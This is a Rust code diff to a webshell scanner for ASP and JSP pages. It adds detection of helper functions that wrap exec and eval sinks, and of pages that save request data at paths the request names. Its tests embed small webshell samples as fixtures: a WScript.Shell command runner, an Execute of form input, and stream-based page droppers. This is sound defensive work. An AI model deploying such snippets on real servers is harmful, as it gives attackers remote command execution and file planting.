@@ -178,9 +178,10 @@ pub(crate) fn asp(t: &str, hits: &mut Vec<Hit>) {
     if parks {
         inputs.push("session(");
     }
-    follow(t, &inputs, ASP_SINKS, &[':', '\n', ';'], hits);
+    let wrappers = vbs_wrappers(t, ASP_SINKS);
+    follow(t, &inputs, ASP_SINKS, &wrappers, &[':', '\n', ';'], hits);
     if !hits.iter().any(|h| h.check == "scan.heuristic.asp_eval") {
-        decoded_execute(t, hits);
+        decoded_execute(t, &wrappers, hits);
     }
     if !hits
         .iter()
@@ -259,28 +260,43 @@ fn writes_download(stmt: &str) -> bool {
 
 /// File extensions a web server runs as code.
 const PAGE_EXTENSIONS: &[&str] = &[
-    ".asp\"", ".aspx\"", ".asa\"", ".cer\"", ".cdx\"", ".ashx\"", ".php\"", ".jsp\"",
+    ".asp", ".aspx", ".asa", ".cer", ".cdx", ".ashx", ".php", ".jsp",
 ];
+
+/// Whether `stmt` names a file with a script extension: the extension ends the name (a quote
+/// of any kind follows, ASCII or the curly quotes a Chinese editor puts in), so `.aspx` is
+/// not `.asp` and `x.asp_old` is neither.
+fn names_page(stmt: &str) -> bool {
+    PAGE_EXTENSIONS.iter().any(|e| {
+        stmt.match_indices(e)
+            .any(|(p, _)| !stmt[p + e.len()..].starts_with(|c: char| is_ident(c) || c == '.'))
+    })
+}
 
 /// A page that makes another page: request data, or bytes fetched from a URL, saved under a
 /// script name the page itself gives (`SaveToFile Server.MapPath("x.asp")`). CMS code saves
 /// settings into `config.asp` too, but as strings it builds, not the request's data as sent.
 fn page_drop(t: &str, hits: &mut Vec<Hit>) {
-    let saves = |marks: &[&str]| {
+    let saves = |marks: &[&str], what: &dyn Fn(&str) -> bool| {
         marks.iter().flat_map(|m| t.match_indices(m)).any(|(p, _)| {
             let stmt = t[p..].split(['\n', ':']).next().unwrap_or("");
-            PAGE_EXTENSIONS.iter().any(|e| stmt.contains(e))
+            what(stmt)
         })
     };
-    if !saves(&["savetofile", "createtextfile", "opentextfile"]) {
+    const SAVES: &[&str] = &["savetofile", "createtextfile", "opentextfile"];
+    let as_page = saves(SAVES, &names_page);
+    // Or where the request says: `SaveToFile Server.MapPath(Request("p"))`.
+    let where_asked = saves(SAVES, &|stmt| ASP_INPUT.iter().any(|i| stmt.contains(i)));
+    if !(as_page || where_asked) {
         return;
     }
     // The downloaded bytes go into a stream as they came (`s.Write x.responseBody`) and the
     // stream is saved as a page; a cache that stores cleaned-up text is not this.
     let fetched = (t.contains("xmlhttp") || t.contains("winhttp"))
-        && saves(&["savetofile"])
+        && saves(&["savetofile"], &names_page)
         && t.split(['\n', ':']).any(writes_download);
-    // Request data written as it came: `s.WriteText Request("d")`, `f.Write(shell)`.
+    // Request data written as it came: `s.WriteText Request("d")`, `f.Write(shell)`. A CMS
+    // saves a sitemap or a template where an admin's form says, but not the form's own text.
     let mut direct: Vec<&str> = Vec::new();
     let mut written = false;
     for stmt in t.split(['\n', ':']) {
@@ -308,7 +324,9 @@ fn page_drop(t: &str, hits: &mut Vec<Hit>) {
         check: "scan.heuristic.asp_page_drop",
         severity: Severity::High,
         title: "ASP saves a new page from the request or the web".into(),
-        why: if written {
+        why: if written && !as_page {
+            "the page writes request data, as sent, into a file at the path the request names: whoever sends the request plants any page anywhere (a webshell dropper)".into()
+        } else if written {
             "the page writes request data, as sent, into a file with a script extension it names itself: whoever sends the request plants a page (a webshell dropper)".into()
         } else {
             "the page downloads bytes from a URL (XMLHTTP responseBody) and saves them under a script extension: a second-stage webshell fetched and planted".into()
@@ -323,8 +341,16 @@ fn page_drop(t: &str, hits: &mut Vec<Hit>) {
 /// the page itself returns, a decoder, or a built-in one (`Execute(Unescape("eval%20…"))`,
 /// `StrReverse`). CMS code evaluates strings it writes out (`Execute "Call " & action`), not
 /// the output of its own functions.
-fn decoded_execute(t: &str, hits: &mut Vec<Hit>) {
-    for mark in ["executeglobal", "execute", "eval"] {
+fn decoded_execute(t: &str, wrappers: &[Wrapper], hits: &mut Vec<Hit>) {
+    // A function of the page that evaluates its parameter evaluates too.
+    let evaluators = wrappers
+        .iter()
+        .filter(|w| w.sink.id == "scan.heuristic.asp_eval")
+        .map(|w| w.name);
+    for mark in ["executeglobal", "execute", "eval"]
+        .into_iter()
+        .chain(evaluators)
+    {
         for (p, _) in t.match_indices(mark) {
             if marked(&t[p..], mark) != Some(0) || t[..p].ends_with(is_ident) {
                 continue;
@@ -336,7 +362,7 @@ fn decoded_execute(t: &str, hits: &mut Vec<Hit>) {
             let arg = t[p + mark.len()..].trim_start_matches([' ', '(']);
             let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(0);
             let name = &arg[..name_len];
-            if name_len < 2 || !arg[name_len..].trim_start().starts_with('(') {
+            if name_len < 2 || name == mark || !arg[name_len..].trim_start().starts_with('(') {
                 continue;
             }
             let builtin = BUILTIN_DECODERS.contains(&name);
@@ -372,7 +398,7 @@ const BUILTIN_DECODERS: &[&str] = &["unescape", "strreverse", "decodeuricomponen
 
 /// JSP flows; `t` is the lowercased page.
 pub(crate) fn jsp(t: &str, hits: &mut Vec<Hit>) {
-    follow(t, JSP_INPUT, JSP_SINKS, &[';', '\n', '{', '}'], hits);
+    follow(t, JSP_INPUT, JSP_SINKS, &[], &[';', '\n', '{', '}'], hits);
     reverse_shell(t, hits);
 }
 
@@ -498,7 +524,94 @@ fn bare_value(value: &str, inputs: &[&str], direct: &[&str]) -> bool {
     false
 }
 
-fn follow(t: &str, inputs: &[&str], sinks: &[Sink], split: &[char], hits: &mut Vec<Hit>) {
+/// A function of the page that hands its parameter to a sink: calling it is using the sink.
+struct Wrapper<'a> {
+    name: &'a str,
+    sink: &'a Sink,
+}
+
+/// VBScript `Function`s and `Sub`s whose parameter reaches a sink in their body
+/// (`Function Run(c) … sh.Exec(c)`, `Sub X(s) : Execute s`), directly or through a local
+/// variable. A shell split into a helper and its call is then still one flow.
+fn vbs_wrappers<'a>(t: &'a str, sinks: &'a [Sink]) -> Vec<Wrapper<'a>> {
+    let armed: Vec<&Sink> = sinks
+        .iter()
+        .filter(|k| k.file_needs.is_empty() || k.file_needs.iter().any(|n| t.contains(n)))
+        .collect();
+    let mut out: Vec<Wrapper> = Vec::new();
+    for (kw, end) in [("function ", "end function"), ("sub ", "end sub")] {
+        for (p, _) in t.match_indices(kw).take(2000) {
+            // A definition, not `End Function` or `Exit Sub`; `Public`/`Private` may precede.
+            let before = t[..p].trim_end_matches([' ', '\t']);
+            let word_before = &before[before.trim_end_matches(is_ident).len()..];
+            if before.ends_with(is_ident)
+                && !matches!(word_before, "public" | "private" | "default")
+            {
+                continue;
+            }
+            let rest = &t[p + kw.len()..];
+            let name = &rest[..rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len())];
+            let Some(params) = rest[name.len()..].trim_start().strip_prefix('(') else {
+                continue;
+            };
+            let Some(close) = params.find(')') else {
+                continue;
+            };
+            let mut carriers: Vec<&str> = params[..close]
+                .split(',')
+                .filter_map(|p| p.split_whitespace().last())
+                .filter(|p| p.starts_with(is_ident))
+                .collect();
+            if name.len() < 2 || carriers.is_empty() || out.iter().any(|w| w.name == name) {
+                continue;
+            }
+            let body = &params[close + 1..];
+            let body = &body[..body
+                .find(end)
+                .unwrap_or(body.len())
+                .min(body.floor_char_boundary(8192))];
+            'body: for s in body.split([':', '\n']) {
+                if let Some((var, rhs)) = assignment(s)
+                    && carriers.iter().any(|c| has_word(rhs, c))
+                    && carriers.len() < 16
+                {
+                    carriers.push(var);
+                }
+                for sink in &armed {
+                    let Some((at, mark)) = sink
+                        .marks
+                        .iter()
+                        .find_map(|m| marked(s, m).map(|p| (p, *m)))
+                    else {
+                        continue;
+                    };
+                    let reaches = if sink.bare {
+                        bare_argument(&s[at..], mark, &[], &carriers)
+                    } else {
+                        carriers.iter().any(|c| has_word(&s[at..], c))
+                    };
+                    if reaches {
+                        out.push(Wrapper { name, sink });
+                        break 'body;
+                    }
+                }
+            }
+            if out.len() >= 16 {
+                return out;
+            }
+        }
+    }
+    out
+}
+
+fn follow(
+    t: &str,
+    inputs: &[&str],
+    sinks: &[Sink],
+    wrappers: &[Wrapper],
+    split: &[char],
+    hits: &mut Vec<Hit>,
+) {
     if !inputs.iter().any(|i| t.contains(i)) {
         return;
     }
@@ -572,6 +685,37 @@ fn follow(t: &str, inputs: &[&str], sinks: &[Sink], split: &[char], hits: &mut V
                 });
                 found.push(sink.id);
             }
+            for w in wrappers {
+                if found.contains(&w.sink.id) {
+                    continue;
+                }
+                let Some(p) = marked(s, w.name) else {
+                    continue;
+                };
+                let tail = &s[p..];
+                let reaches = if w.sink.bare {
+                    bare_argument(tail, w.name, inputs, &direct)
+                } else {
+                    inputs.iter().any(|i| tail.contains(i))
+                        || tainted.iter().any(|v| has_word(tail, v))
+                };
+                if !reaches {
+                    continue;
+                }
+                hits.push(Hit {
+                    check: w.sink.id,
+                    severity: w.sink.severity,
+                    title: w.sink.title.into(),
+                    why: format!(
+                        "request input (`{from}…`) goes to `{}()`, a function of the page that {}",
+                        w.name, w.sink.why
+                    ),
+                    attack: vec!["T1505.003".into()],
+                    offset: Some(here),
+                    rule: None,
+                });
+                found.push(w.sink.id);
+            }
         }
     }
 }
@@ -584,6 +728,56 @@ mod tests {
         let mut hits = Vec::new();
         f(&page.to_ascii_lowercase(), &mut hits);
         hits.iter().map(|h| h.check).collect()
+    }
+
+    #[test]
+    fn asp_sinks_behind_a_function_of_the_page() {
+        let page = "<%\nFunction getCommandOutput(theCommand)\n  Set objShell = CreateObject(\"WScript.Shell\")\n  Set objCmdExec = objShell.exec(theCommand)\n  getCommandOutput = objCmdExec.StdOut.ReadAll\nEnd Function\n%>\n<% szCMD = request(\"cmd\")\nthisDir = getCommandOutput(\"cmd /c\" & szCMD)\n%>";
+        assert_eq!(ids(asp, page), ["scan.heuristic.asp_exec"]);
+        let sub = "<%\nPrivate Sub Run(ByVal s)\n  code = s\n  Execute code\nEnd Sub\nRun Request.Form(\"x\")\n%>";
+        assert_eq!(ids(asp, sub), ["scan.heuristic.asp_eval"]);
+        // A database helper called with request input, and an evaluating helper called with
+        // a constant, stay quiet.
+        let cms = "<%\nFunction Query(sql)\n  Set Query = conn.Execute(sql)\nEnd Function\nSub Show(n)\n  Execute \"Call Show\" & n\nEnd Sub\nSet rs = Query(\"select * from t where id=\" & Request(\"id\"))\nShow \"Menu\"\n%>";
+        assert!(ids(asp, cms).is_empty(), "{:?}", ids(asp, cms));
+        // A helper that saves to a path it is given, called with a path built around the input.
+        let save = "<%\nSub SaveAs(path, data)\n  Set f = fso.CreateTextFile(path)\n  f.Write data\nEnd Sub\nSaveAs Server.MapPath(\"cache/\" & Request(\"k\") & \".txt\"), body\n%>";
+        assert!(ids(asp, save).is_empty(), "{:?}", ids(asp, save));
+        // A JScript evaluator of the page fed by a decoder of the page.
+        let jscript = "<script runat=\"server\" language=\"JScript\">\nfunction exs(str) {\n var b = eval(str, \"unsafe\");\n return(b);\n}\nfunction dec(str, key) {\n var s = \"\";\n return(s);\n}\n</script>\n<%\nexs(exs(dec(\"556675766874\",\"1314\")));\n%>";
+        assert_eq!(ids(asp, jscript), ["scan.heuristic.asp_eval_decoded"]);
+        // Multi-byte text right before the keywords, and definitions cut short.
+        for cut in [
+            "é sub ",
+            "éfunction é(",
+            "日本sub x(",
+            "function",
+            "sub x(é",
+            "sub x(a) é",
+        ] {
+            let _ = ids(asp, &format!("{cut}<% request(\"a\") %>"));
+        }
+    }
+
+    #[test]
+    fn asp_saves_where_the_request_says() {
+        // Request data saved at the path the request names, through Server.MapPath.
+        let up = "<%\nset gl=server.CreateObject(\"Adodb.Stream\")\ngl.Open\ngl.writetext request(\"code\")\ngl.SaveToFile server.mappath(request(\"path\")),2\n%>";
+        assert_eq!(ids(asp, up), ["scan.heuristic.asp_page_drop"]);
+        // A sitemap saved where an admin's form says: the path is asked, the text is not.
+        let sitemap =
+            "<%\np=Server.MapPath(Request(\"sitemapPath\"))\ns.WriteText xml\ns.SaveToFile p,2\n%>";
+        assert!(ids(asp, sitemap).is_empty());
+        // A download saved as a page named between the curly quotes a Chinese editor writes.
+        let fetch = "<%\nSet x = CreateObject(\u{201c}Microsoft.XMLHTTP\u{201d})\nx.Open \u{201c}GET\u{201d},\u{201c}http://h/a.txt\u{201d},False\nx.Send()\nSet s = CreateObject(\u{201c}ADODB.Stream\u{201d})\ns.Open()\ns.Write(x.responseBody)\ns.SaveToFile Server.MapPath(\u{201c}x.asp\u{201d}),2\n%>";
+        assert_eq!(ids(asp, fetch), ["scan.heuristic.asp_page_drop"]);
+        // Saved as data, not as a page; and a page name that only starts like one.
+        for quiet in [
+            fetch.replace("x.asp", "x.txt"),
+            fetch.replace("x.asp", "x.asp_old"),
+        ] {
+            assert!(ids(asp, &quiet).is_empty(), "{quiet}");
+        }
     }
 
     #[test]
